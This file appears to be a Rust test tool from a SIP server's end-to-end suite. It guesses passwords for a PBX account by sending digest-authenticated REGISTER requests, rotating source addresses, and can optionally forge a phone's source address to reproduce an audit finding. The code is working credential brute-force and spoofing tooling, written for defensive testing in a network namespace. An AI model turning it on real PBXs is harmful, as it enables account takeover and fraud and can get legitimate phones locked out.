//! `register-guess PBX:PORT USER NUMBER PASSWORD[,PASSWORD…] FROM_IP[,FROM_IP…] [AS_IP:PORT]`:
//! a password guesser, for tests in a network namespace only (it sends nowhere but PBX).
//! Each password in turn, from the next address of FROM_IP (round robin): a REGISTER for
//! NUMBER, and when it is challenged, the REGISTER again with a digest answer computed from
//! the password. Prints one line per password: `PASSWORD STATUS` (the final status, or `-`
//! for no answer within 2 s).
//!
//! With AS_IP:PORT (a forged source: the namespace must allow non-local binds), the challenge
//! is fetched from FROM_IP but the answer goes out from AS_IP:PORT, and its status is never
//! seen (`forged`): the spoofed "wrong passwords from a phone's address" of finding 5. (It
//! needs root, for IP_TRANSPARENT.)

use sip::Message;
use sip::auth::DigestClient;
use std::net::{SocketAddr, UdpSocket};
use std::time::Duration;

fn register(number: &str, pbx: SocketAddr, me: SocketAddr, n: usize, cseq: u32) -> String {
    format!(
        "REGISTER sip:{host} SIP/2.0\r\n\
         Via: SIP/2.0/UDP {me};branch=z9hG4bK-guess-{n}-{cseq}\r\n\
         Max-Forwards: 70\r\n\
         From: <sip:{number}@{host}>;tag=g{n}\r\n\
         To: <sip:{number}@{host}>\r\n\
         Call-ID: guess-{n}@{me}\r\n\
         CSeq: {cseq} REGISTER\r\n\
         Contact: <sip:{number}@{me}>\r\n\
         Expires: 60\r\n\
         Content-Length: 0\r\n\r\n",
        host = pbx.ip()
    )
}

/// The final response to what `sock` sent, within 2 s.
fn final_response(sock: &UdpSocket) -> Option<sip::Response> {
    let mut buf = [0u8; 8192];
    loop {
        let n = sock.recv(&mut buf).ok()?;
        if let Ok(Message::Response(r)) = Message::parse_datagram(&buf[..n])
            && r.status >= 200
        {
            return Some(r);
        }
    }
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let usage = "usage: register-guess PBX:PORT USER NUMBER PASSWORDS FROM_IPS [AS_IP:PORT]";
    let pbx: SocketAddr = args.first().and_then(|a| a.parse().ok()).expect(usage);
    let user = args.get(1).expect(usage);
    let number = args.get(2).expect(usage);
    let passwords: Vec<&str> = args.get(3).expect(usage).split(',').collect();
    let sources: Vec<UdpSocket> = args
        .get(4)
        .expect(usage)
        .split(',')
        .map(|ip| {
            let s = UdpSocket::bind((ip.parse::<std::net::IpAddr>().expect(usage), 0))
                .expect("a socket on the source address");
            s.connect(pbx).expect("connect");
            s.set_read_timeout(Some(Duration::from_secs(2)))
                .expect("timeout");
            s
        })
        .collect();
    let forged: Option<UdpSocket> = args.get(5).map(|a| {
        let addr: SocketAddr = a.parse().expect(usage);
        let s = e2e::netns::udp_from(addr).expect("a forged source (run as root)");
        s.connect(pbx).expect("connect");
        s
    });
    for (n, password) in passwords.iter().enumerate() {
        let sock = &sources[n % sources.len()];
        let me = sock.local_addr().expect("bound");
        let first = register(number, pbx, me, n, 1);
        let _ = sock.send(first.as_bytes());
        let status = match final_response(sock) {
            Some(challenge) if challenge.status == 401 => {
                let from = forged
                    .as_ref()
                    .map_or(me, |f| f.local_addr().expect("bound"));
                let text = register(number, pbx, from, n, 2);
                let Ok(Message::Request(mut again)) = Message::parse_datagram(text.as_bytes())
                else {
                    panic!("our own REGISTER parses");
                };
                DigestClient::new(user, password).authorize(&mut again, &challenge);
                match &forged {
                    Some(f) => {
                        let _ = f.send(&Message::Request(again).to_bytes());
                        "forged".to_string()
                    }
                    None => {
                        let _ = sock.send(&Message::Request(again).to_bytes());
                        final_response(sock).map_or("-".to_string(), |r| r.status.to_string())
                    }
                }
            }
            Some(other) => other.status.to_string(),
            None => "-".to_string(),
        };
        println!("{password} {status}");
    }
}
